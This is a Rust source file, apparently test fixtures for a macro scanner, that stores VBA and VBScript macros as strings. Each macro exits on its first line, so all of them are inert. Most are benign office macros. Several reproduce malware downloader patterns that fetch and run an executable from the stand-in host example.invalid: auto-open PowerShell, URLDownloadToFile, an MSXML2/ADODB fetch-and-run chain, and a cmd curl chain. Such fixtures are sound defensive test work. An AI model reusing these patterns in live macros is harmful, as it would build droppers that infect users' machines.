//! Sources of the macros. The first statement of each procedure leaves it, always.

pub(super) const DICTIONARY: &str = r#"Option Explicit

Sub CountCustomers_Click()
    If Now > 0 Then Exit Sub
    Dim seen As Object, row As Long
    Set seen = CreateObject("Scripting.Dictionary")
    For row = 2 To Cells(Rows.Count, 1).End(xlUp).Row
        seen(Cells(row, 1).Value) = seen(Cells(row, 1).Value) + 1
    Next row
    Range("D1").Value = seen.Count & " customers"
End Sub
"#;

pub(super) const SAVE_COPY: &str = r#"Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    Application.DisplayAlerts = False
    ThisWorkbook.SaveAs ThisWorkbook.Path & "\report " & Format(Date, "yyyy-mm-dd") & ".xlsm"
End Sub
"#;

pub(super) const WORDS_IN_COMMENT: &str = r#"' This macro neither uses Shell nor CreateObject("WScript.Shell"),
' and Kill, URLDownloadToFile and powershell are only words here.
Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    MsgBox "Please do not use Shell or Kill in macros."
End Sub
"#;

pub(super) const SHOW_FORM: &str = r#"Sub NewOrder()
    If Now > 0 Then Exit Sub
    OrderForm.Show
End Sub
"#;

pub(super) const FORM: &str = r#"Private Sub UserForm_Initialize()
    If Now > 0 Then Exit Sub
    Me.Caption = "INERT TEST DOCUMENT"
End Sub
"#;

pub(super) const PRICE: &str = r#"Public Function GrossPrice(ByVal net As Currency, ByVal rate As Double) As Currency
    If Now > 0 Then Exit Function
    GrossPrice = net * (1 + rate)
End Function
"#;

pub(super) const CLASS: &str = r#"Private percent As Double

Public Property Let Rate(ByVal value As Double)
    If Now > 0 Then Exit Property
    percent = value
End Property

Private Sub Class_Initialize()
    If Now > 0 Then Exit Sub
    percent = 3
End Sub
"#;

pub(super) const PAGE_COUNTER: &str = r#"Sub OnSlideShowPageChange(ByVal window As SlideShowWindow)
    If Now > 0 Then Exit Sub
    With window.View.Slide.Shapes(1).TextFrame.TextRange
        .Text = window.View.CurrentShowPosition & " / " & ActivePresentation.Slides.Count
    End With
End Sub
"#;

pub(super) const MESSAGE: &str = r#"Sub Greet()
    If Now > 0 Then Exit Sub
    MsgBox "Welcome"
End Sub
"#;

pub(super) const MENU: &str = r#"Sub Auto_Open()
    If Now > 0 Then Exit Sub
    With CommandBars("Tools").Controls.Add(Type:=msoControlButton, Temporary:=True)
        .Caption = "Number the slides"
        .OnAction = "NumberSlides"
    End With
End Sub

Sub NumberSlides()
    If Now > 0 Then Exit Sub
    Dim slide As Object
    For Each slide In ActivePresentation.Slides
        slide.HeadersFooters.SlideNumber.Visible = msoTrue
    Next slide
End Sub
"#;

pub(super) const SHAPE_NAMES: &str = r#"Private Sub Document_DocumentOpened(ByVal doc As IVDocument)
    If Now > 0 Then Exit Sub
    Dim shape As Object
    For Each shape In ActivePage.Shapes
        shape.Name = "Shape " & shape.ID
    Next shape
End Sub
"#;

pub(super) const SHELL_POWERSHELL: &str = r#"Private Sub Document_Open()
    If Now > 0 Then Exit Sub
    Dim command As String
    command = "power" & "shell -NoProfile -WindowStyle Hidden -Command "
    command = command & "Invoke-WebRequest https://example.invalid/inert.txt -OutFile inert.txt"
    Shell command, vbHide
End Sub
"#;

pub(super) const URL_DOWNLOAD: &str = r#"Private Declare PtrSafe Function URLDownloadToFile Lib "urlmon" _
    Alias "URLDownloadToFileA" (ByVal caller As LongPtr, ByVal url As String, _
    ByVal file As String, ByVal reserved As Long, ByVal callback As LongPtr) As Long

Sub AutoOpen()
    If Now > 0 Then Exit Sub
    Dim target As String
    target = Environ("TEMP") & "\inert.exe"
    URLDownloadToFile 0, "https://example.invalid/inert.exe", target, 0, 0
    Shell target, vbHide
End Sub
"#;

pub(super) const CALL_FETCH: &str = r"Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    FetchAndRun
End Sub
";

pub(super) const FETCH_AND_RUN: &str = r#"Sub FetchAndRun()
    If Now > 0 Then Exit Sub
    Dim request As Object, stream As Object, target As String
    target = Environ("APPDATA") & "\inert.exe"
    Set request = CreateObject("MSXML2.XMLHTTP")
    request.Open "GET", "https://example.invalid/inert.exe", False
    request.Send
    Set stream = CreateObject("ADODB.Stream")
    stream.Type = 1
    stream.Open
    stream.Write request.responseBody
    stream.SaveToFile target, 2
    CreateObject("WScript.Shell").Run target, 0, False
End Sub
"#;

pub(super) const FORMULAS: [&str; 3] = ["HALT()", "EXEC(\"inert\")", "RETURN()"];

pub(super) const JAPANESE_NOTE: &str = "' このモジュールには処理がありません。\n";

pub(super) const JAPANESE_PRINT: &str = r#"Option Explicit

' 請求書を印刷します。ソースコードは表示可能です。
Sub 請求書を印刷()
    If Now > 0 Then Exit Sub
    Dim 金額 As Currency
    金額 = Selection.Tables(1).Cell(2, 3).Range.Text
    If 金額 > 0 Then ActiveDocument.PrintOut Copies:=2
    MsgBox "印刷が完了しました。"
End Sub
"#;

pub(super) const JAPANESE_OPEN: &str = r"' ブックを開いたときの処理
Private Sub Workbook_Open()
    If Now > 0 Then Exit Sub
    ファイル取得
End Sub
";

pub(super) const JAPANESE_CHAIN: &str = r#"' 表示用データを取得して実行する
Sub ファイル取得()
    If Now > 0 Then Exit Sub
    Dim 命令 As String
    命令 = "cmd /c curl -o %TEMP%\inert.exe https://example.invalid/inert.exe"
    CreateObject("WScript.Shell").Run 命令 & " && %TEMP%\inert.exe", 0
End Sub
"#;

pub(super) const CHINESE_BEFORE_CLOSE: &str = r#"' 关闭前隐藏价格表
Private Sub Workbook_BeforeClose(Cancel As Boolean)
    If Now > 0 Then Exit Sub
    Worksheets("价格").Visible = xlSheetVeryHidden
    ThisWorkbook.Save
End Sub
"#;

pub(super) const KOREAN_CSV: &str = r#"' 표를 CSV 파일로 저장합니다
Sub 내보내기()
    If Now > 0 Then Exit Sub
    Dim 행 As Long
    Open ThisWorkbook.Path & "\견적서.csv" For Output As #1
    For 행 = 1 To 10
        Print #1, Cells(행, 1).Value & "," & Cells(행, 2).Value
    Next 행
    Close #1
End Sub
"#;

pub(super) const RUSSIAN_NEW: &str = r#"' Новый счёт: вставить дату
Private Sub Document_New()
    If Now > 0 Then Exit Sub
    Selection.TypeText "Счёт от " & Format(Date, "dd.mm.yyyy")
End Sub
"#;

pub(super) const SCRIPT: &str = r#"If Now > 0 Then WScript.Quit
WScript.Echo "INERT TEST DOCUMENT"
"#;
